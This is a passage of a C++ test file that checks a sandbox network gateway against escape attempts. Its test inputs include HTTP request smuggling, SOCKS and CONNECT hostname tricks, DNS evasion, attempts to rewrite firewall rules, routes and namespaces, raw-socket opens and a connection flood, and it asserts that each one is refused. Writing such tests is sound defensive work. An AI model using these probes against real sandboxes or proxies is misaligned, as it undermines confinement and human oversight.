  EXPECT_TRUE(audited("deny", "http-smuggling")) << audit_dump();
  EXPECT_TRUE(audited("deny", "sni-mismatch")) << audit_dump();
  // Negative control: the lab's server does act on the smuggled request
  // when it gets these bytes straight from the host side.
  lab_->clear_logs();
  host_atk("raw 203.0.113.11 80 0 '" + cl_cl + "'");
  bool smuggled = false;
  for (const auto& q : lab_->requests()) smuggled |= q.value("path", "") == "/smuggled";
  EXPECT_TRUE(smuggled) << seen();
}

TEST_F(AttackNetwork, Socks5EdgeCasesAreRefused) {
  std::string script = atk("ok", "socks 3 evil.allowed.test 80 evil.allowed.test") +
                       atk("name", "socks 3 other.test 80 other.test") +
                       atk("name_case_dot", "socks 3 OTHER.TEST. 80 other.test") +
                       atk("nul", "socks 3 'evil.allowed.test\\x00.other.test' 80 other.test") +
                       atk("nul2", "socks 3 'other.test\\x00evil.allowed.test' 80 other.test") +
                       atk("literal_name", "socks 3 203.0.113.11 80 other.test") +
                       atk("unresolved_ip", "socks 1 203.0.113.10 80 allowed.test") +
                       atk("ipv6", "socks 4 20010db8000000000000000000000001 80 v6.test") +
                       atk("mapped", "socks 4 00000000000000000000ffffcb00710b 80 other.test") +
                       atk("long", "socks 3 " + std::string(255, 'a') + " 80 other.test") +
                       atk("port", "socks 3 evil.allowed.test 8080 evil.allowed.test") +
                       atk("host_hdr", "socks 3 evil.allowed.test 80 other.test");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_TRUE(served(l["ok"], "host=evil.allowed.test")) << r.out << r.err;  // control
  for (const char* k : {"name", "name_case_dot", "nul", "nul2", "literal_name", "unresolved_ip", "ipv6", "mapped", "long",
                        "port", "host_hdr"})
    EXPECT_FALSE(served(l[k], "")) << k << ": " << l[k];
  EXPECT_EQ(fronted(), 0) << seen();
  int other = 0;
  for (const auto& q : lab_->requests()) other += q.value("server", "") != "other.test";
  EXPECT_EQ(other, 0) << seen();
  EXPECT_EQ(lab_->requests().size(), 1u) << seen();
}

TEST_F(AttackNetwork, ConnectEdgeCasesAreRefused) {
  auto connect = [](const std::string& target, const std::string& host) {
    return "raw 127.0.0.1 3128 0 'CONNECT " + target + " HTTP/1.1\\r\\nHost: " + target + "\\r\\n\\r\\n' 'GET / HTTP/1.1\\r\\nHost: " +
           host + "\\r\\nConnection: close\\r\\n\\r\\n'";
  };
  std::string script = atk("ok", connect("evil.allowed.test:80", "evil.allowed.test")) +
                       atk("name", connect("other.test:80", "other.test")) +
                       atk("ip", connect("203.0.113.11:80", "other.test")) +
                       atk("ip6", connect("[::ffff:203.0.113.11]:80", "other.test")) +
                       atk("userinfo", connect("evil.allowed.test@other.test:80", "other.test")) +
                       atk("port", connect("evil.allowed.test:8080", "evil.allowed.test")) +
                       atk("port_wrap", connect("evil.allowed.test:65616", "evil.allowed.test")) +
                       atk("lowercase", "raw 127.0.0.1 3128 0 'connect other.test:80 HTTP/1.1\\r\\n\\r\\n' 'GET / HTTP/1.1\\r\\n" +
                                            kHostOther + "'") +
                       atk("origin", "raw 127.0.0.1 3128 0 'GET / HTTP/1.1\\r\\n" + kHostOther + "'");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_TRUE(served(l["ok"], "host=evil.allowed.test")) << r.out << r.err;  // control
  for (const char* k : {"name", "ip", "ip6", "userinfo", "port", "port_wrap", "lowercase", "origin"})
    EXPECT_FALSE(served(l[k], "")) << k << ": " << l[k];
  EXPECT_EQ(fronted(), 0) << seen();
  EXPECT_EQ(lab_->requests().size(), 1u) << seen();
}

TEST_F(AttackNetwork, DnsTricksNeverLeaveTheHost) {
  std::vector<std::string> kinds = {"denied", "upper", "dotlabel", "nullabel", "suffix", "two",
                                    "compress", "long", "edns", "txt", "chaos"};
  std::string script = atk("ok", "dnsq 127.0.0.1 udp ok") + atk("ok_any", "dnsq 192.0.2.1 udp ok") +
                       atk("tcp53", "dnsq 203.0.113.53 tcp denied");
  for (const auto& k : kinds) script += atk(k, "dnsq 127.0.0.1 udp " + k);
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  // Controls: the allowed name is answered (whatever server the sandbox
  // asks) and reaches the lab's DNS.
  EXPECT_TRUE(has(l["ok"], "rcode=0 an=1")) << r.out << r.err;
  EXPECT_TRUE(has(l["ok_any"], "rcode=0 an=1")) << r.out;
  for (const auto& k : kinds) EXPECT_FALSE(has(l[k], "an=1")) << k << ": " << l[k];
  EXPECT_FALSE(has(l["tcp53"], "rcode")) << l["tcp53"];
  // Only the allowed name, type A, ever left: no other name, no TXT/CH query.
  for (const auto& q : lab_->dns_log()) EXPECT_EQ(q, "evil.allowed.test A") << r.out;
  EXPECT_FALSE(lab_->dns_log().empty());
  EXPECT_TRUE(audited("deny", "port")) << audit_dump();  // TCP/53
}

TEST_F(AttackNetwork, SandboxCannotChangeItsRulesRoutesOrNamespaces) {
  // Negative control: the same netlink message deletes the table where the
  // caller may (a fresh namespace on the host: ENOENT, the table is looked
  // up, not EPERM).
  Outcome ctl = lab_->host_sh("unshare -n /usr/bin/python3 '" + (dir_ / "atk.py") + "' nftdel");
  ASSERT_TRUE(has(ctl.out, "nftdel ack errno=2")) << ctl.out << ctl.err;
  std::string script =
      atk("nft", "nftdel") +
      "echo \"caps $(grep CapEff /proc/self/status | tr -s '\\t ' ' ')\"\n"
      "echo \"route $(ip route replace default via 127.0.0.1 2>&1 >/dev/null; echo rc=$?)\"\n"
      "echo \"addr $(ip addr add 203.0.113.99/24 dev lo 2>&1 >/dev/null; echo rc=$?)\"\n"
      "echo \"unshare $(unshare -rn true 2>&1 >/dev/null; echo rc=$?)\"\n"
      "echo \"raw $(/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)' 2>&1 | tail -1)\"\n"
      "echo \"packet $(/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)' 2>&1 | tail -1)\"\n"
      "getent hosts other.test >/dev/null\n" +
      atk("after", "raw 203.0.113.11 80 0 'GET / HTTP/1.1\\r\\n" + kHostOther + "'") +
      atk("after_ok", "raw evil.allowed.test 80 0 'GET / HTTP/1.1\\r\\n" + kHostEvil + "'");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_TRUE(has(l["nft"], "errno=1")) << l["nft"] << r.err;  // EPERM
  EXPECT_TRUE(has(l["caps"], "CapEff: 0000000000000000")) << l["caps"];
  EXPECT_FALSE(has(l["route"], "rc=0")) << l["route"];
  EXPECT_FALSE(has(l["addr"], "rc=0")) << l["addr"];
  EXPECT_FALSE(has(l["unshare"], "rc=0")) << l["unshare"];
  EXPECT_TRUE(has(l["raw"], "PermissionError") || has(l["raw"], "Operation not permitted")) << l["raw"];
  EXPECT_TRUE(has(l["packet"], "Error")) << l["packet"];
  // The rules are still in force: fronting refused, the allowed name works.
  EXPECT_FALSE(served(l["after"], "")) << l["after"];
  EXPECT_TRUE(served(l["after_ok"], "host=evil.allowed.test")) << l["after_ok"];
  EXPECT_EQ(fronted(), 0) << seen();
}

TEST_F(AttackNetwork, GatewayListenersAndLoopbackLeadNowhere) {
  std::string get = "'GET / HTTP/1.1\\r\\n" + kHostEvil + "'";
  std::string script = atk("ok", "raw evil.allowed.test 80 0 " + get) +
                       atk("transparent", "raw 127.0.0.1 15001 0 " + get) +
                       atk("transparent2", "raw 127.0.0.2 15001 0 " + get) +
                       atk("dns_tcp", "raw 127.0.0.1 53 0 " + get) +
                       atk("lo80", "raw 127.0.0.1 80 0 " + get) +
                       atk("lo_other", "raw 127.1.2.3 80 0 " + get) +
                       atk("proxy_self", "raw 127.0.0.1 3128 0 'GET http://127.0.0.1:15001/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n'") +
                       atk("socks_self", "socks 1 127.0.0.1 3128 127.0.0.1") +
                       atk("socks_local", "socks 3 localhost 80 localhost");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_TRUE(served(l["ok"], "host=evil.allowed.test")) << r.out << r.err;  // control
  for (const char* k : {"transparent", "transparent2", "dns_tcp", "lo80", "lo_other", "proxy_self", "socks_self", "socks_local"})
    EXPECT_FALSE(served(l[k], "")) << k << ": " << l[k];
  EXPECT_EQ(lab_->requests().size(), 1u) << seen();
}

TEST_F(AttackNetwork, ConnectionFloodStallsOnlyWhileHeld) {
  // 300 idle connections (more than the gateway's 256): a new one is
  // dropped while they are held (the control: the flood took effect), and
  // served once they are closed (nothing leaked).
  Outcome r = run_allow_evil(atk("hold", "hold 300 evil.allowed.test 80 1.5"));
  std::string line = by_label(r.out)["hold"];
  EXPECT_TRUE(has(line, "opened=300")) << line << r.err;
  auto during = line.find("during=["), after = line.find("after=[");
  ASSERT_TRUE(during != std::string::npos && after != std::string::npos) << line;
  EXPECT_FALSE(served(line.substr(during, after - during), "")) << line;
  EXPECT_TRUE(served(line.substr(after), "host=evil.allowed.test")) << line;
}

}  // namespace
}  // namespace ultari::test
